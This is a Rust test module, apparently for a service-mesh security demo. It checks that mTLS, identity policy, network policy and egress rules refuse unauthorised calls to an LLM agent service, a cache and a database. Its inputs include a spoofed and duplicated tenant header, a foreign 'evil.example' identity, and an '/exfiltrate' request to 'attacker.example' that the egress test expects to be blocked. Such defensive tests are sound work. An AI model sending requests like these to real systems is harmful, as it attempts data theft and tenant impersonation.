//! Inside the mesh: who may open a connection to whom, and call what.

use super::{Expect, Report, Scenario, Wants, clear, mutual, no_connection, passes, refuses, sent};
use crate::demo::client::{Way, Wire, once};
use crate::demo::stage::{Stage, request};
use std::time::Duration;

pub const AGENT: &str = "application/llm-agent-service";
const AGENT_HOST: &str = "llm-agent-service.application.svc.cluster.local:8080";

pub const LIST: &[Scenario] = &[
    Scenario { name: "plaintext into STRICT", wants: Wants::Shared, run: |stage| Box::pin(plaintext(stage)) },
    Scenario { name: "identity of another trust domain", wants: Wants::Shared, run: |stage| Box::pin(foreign(stage)) },
    Scenario { name: "wrong service identity", wants: Wants::Shared, run: |stage| Box::pin(wrong_identity(stage)) },
    Scenario {
        name: "right identity, call not allowed by policy",
        wants: Wants::Shared,
        run: |stage| Box::pin(wrong_path(stage)),
    },
    Scenario { name: "right identity, no user token", wants: Wants::Shared, run: |stage| Box::pin(no_token(stage)) },
    Scenario {
        name: "tenant header made up inside the mesh",
        wants: Wants::Shared,
        run: |stage| Box::pin(tenant(stage)),
    },
    Scenario { name: "security header sent twice", wants: Wants::Shared, run: |stage| Box::pin(twice(stage)) },
    Scenario {
        name: "service calls a peer through its own listener",
        wants: Wants::Shared,
        run: |stage| Box::pin(outbound(stage)),
    },
    Scenario {
        name: "cache port from a service that may not",
        wants: Wants::Shared,
        run: |stage| Box::pin(cache(stage)),
    },
    Scenario {
        name: "database port from an unlabelled pod",
        wants: Wants::Shared,
        run: |stage| Box::pin(database(stage)),
    },
    Scenario { name: "pod to pod from another zone", wants: Wants::Shared, run: |stage| Box::pin(another_zone(stage)) },
    Scenario {
        name: "egress to a host that nothing declares",
        wants: Wants::Shared,
        run: |stage| Box::pin(egress(stage)),
    },
];

pub fn agent_call(stage: &Stage, path: &str, fields: &[(&str, &str)]) -> Vec<u8> {
    let bearer = format!("Bearer {}", stage.token());
    request("POST", path, AGENT_HOST, &[&[("Authorization", bearer.as_str())], fields].concat(), b"{}")
}

async fn plaintext(stage: &Stage) -> Report {
    let way = clear(stage.platform.inbound(AGENT, 8080));
    no_connection(stage, &way, &agent_call(stage, "/api/v1/completions/chat", &[]), "tls", "").await
}

async fn foreign(stage: &Stage) -> Report {
    let mut way = mutual(stage, stage.platform.inbound(AGENT, 8080), "application", "bff-service");
    if let Some(tls) = &mut way.tls {
        tls.identity = stage.platform.foreign_identity("evil.example", "application", "bff-service");
    }
    no_connection(stage, &way, &agent_call(stage, "/api/v1/completions/chat", &[]), "tls", "").await
}

async fn wrong_identity(stage: &Stage) -> Report {
    let way = mutual(stage, stage.platform.inbound(AGENT, 8080), "observability", "prometheus");
    let bytes = agent_call(stage, "/api/v1/completions/chat", &[]);
    let mut report = refuses(stage, &way, &bytes, Expect::refused(403, "mesh", "")).await;
    report.held &= report.rule.contains("default deny");
    report
}

async fn wrong_path(stage: &Stage) -> Report {
    let way = mutual(stage, stage.platform.inbound(AGENT, 8080), "application", "workflow-orchestrator-service");
    let bytes = agent_call(stage, "/api/v1/agents/summary", &[]);
    let mut report = refuses(stage, &way, &bytes, Expect::refused(403, "mesh", "")).await;
    report.held &= report.rule.contains("default deny");
    report
}

async fn no_token(stage: &Stage) -> Report {
    let way = mutual(stage, stage.platform.inbound(AGENT, 8080), "application", "bff-service");
    let bytes = request("POST", "/api/v1/completions/chat", AGENT_HOST, &[("X-Tenant-Id", "acme")], b"{}");
    let mut report = refuses(stage, &way, &bytes, Expect::refused(403, "mesh", "")).await;
    report.held &= report.rule.contains("default deny");
    report
}

async fn tenant(stage: &Stage) -> Report {
    let way =
        mutual(stage, stage.platform.inbound("application/file-storage-service", 8080), "application", "bff-service");
    let bearer = format!("Bearer {}", stage.token());
    let host = "file-storage-service.application.svc.cluster.local:8080";
    let fields = [("Authorization", bearer.as_str()), ("X-Tenant-Id", "victim")];
    let bytes = request("GET", "/api/v1/files/report.pdf", host, &fields, b"");
    let answer = once(&way, &bytes).await;
    let echo: serde_json::Value = serde_json::from_slice(&answer.body).unwrap_or_default();
    let seen =
        echo.get("fields").and_then(|it| it.get("x-tenant-id")).and_then(|it| it.as_str()).unwrap_or("none").to_owned();
    Report {
        held: answer.status == 200 && seen == "acme",
        saw: format!("{}, service saw tenant {seen}", answer.status),
        status: answer.status,
        wanted: "tenant acme of the token".into(),
        ..sent(&way, &bytes)
    }
}

async fn twice(stage: &Stage) -> Report {
    let way = mutual(stage, stage.platform.inbound(AGENT, 8080), "application", "bff-service");
    let bytes = agent_call(stage, "/api/v1/completions/chat", &[("X-Tenant-Id", "acme"), ("X-Tenant-Id", "victim")]);
    refuses(stage, &way, &bytes, Expect::refused(400, "mesh", "duplicate-security-header")).await
}

async fn outbound(stage: &Stage) -> Report {
    let way = clear(stage.platform.outbound("application/bff-service"));
    let bearer = format!("Bearer {}", stage.token());
    let bytes = request("GET", "/api/v1/agents/summary", AGENT_HOST, &[("Authorization", &bearer)], b"");
    passes(&way, &bytes, 200).await
}

/// The network admits it by its label; its identity is none that the cache admits.
async fn cache(stage: &Stage) -> Report {
    let to = stage.platform.inbound("data/redis", 6379);
    let way = mutual(stage, to, "application", "workflow-orchestrator-service");
    closed(stage, &way, "mesh", "default deny").await
}

async fn database(stage: &Stage) -> Report {
    let to = stage.platform.inbound("data/postgresql", 5432);
    let way = mutual(stage, to, "application", "notification-service");
    closed(stage, &way, "packet", "NetworkPolicy/data/service-to-database").await
}

async fn another_zone(stage: &Stage) -> Report {
    let way = mutual(stage, stage.platform.inbound(AGENT, 8080), "infrastructure", "keycloak");
    let bytes = agent_call(stage, "/api/v1/completions/chat", &[]);
    refuses(stage, &way, &bytes, Expect::refused(403, "packet", "NetworkPolicy/application/bff-to-services")).await
}

/// Opens a connection, speaks first, and expects it to be closed by that rule.
async fn closed(stage: &Stage, way: &Way, layer: &str, rule: &str) -> Report {
    let mut report = sent(way, b"(PostgreSQL start-up message)");
    let opened = Wire::open(way).await;
    report.held = match opened {
        // TLS 1.3 lets a client speak before the server has judged it: the close comes on the first read.
        Ok(mut wire) => {
            wire.send(&[0, 0, 0, 8, 4, 210, 22, 47]).await.is_err() || wire.closed(Duration::from_secs(2)).await
        }
        Err(_) => true,
    };
    if !report.held {
        report.through = true;
        report.saw = "connection open".into();
        return report;
    }
    let record = stage.platform.latest_connection(way.to).await;
    let text =
        |name: &str| record.as_ref().and_then(|it| it.get(name)?.as_str().map(str::to_owned)).unwrap_or_default();
    report.layer = text("layer");
    report.rule = text("rule");
    report.place = text("place");
    report.id = text("id");
    report.held &= report.layer == layer && report.rule.contains(rule);
    report.saw = "connection closed".into();
    report.wanted = format!("closed by {layer}, {rule}");
    report
}

async fn egress(stage: &Stage) -> Report {
    let way = clear(stage.platform.outbound("application/llm-agent-service"));
    let bytes = request("GET", "/exfiltrate", "attacker.example", &[], b"");
    refuses(stage, &way, &bytes, Expect::refused(502, "route", "registry-only")).await
}
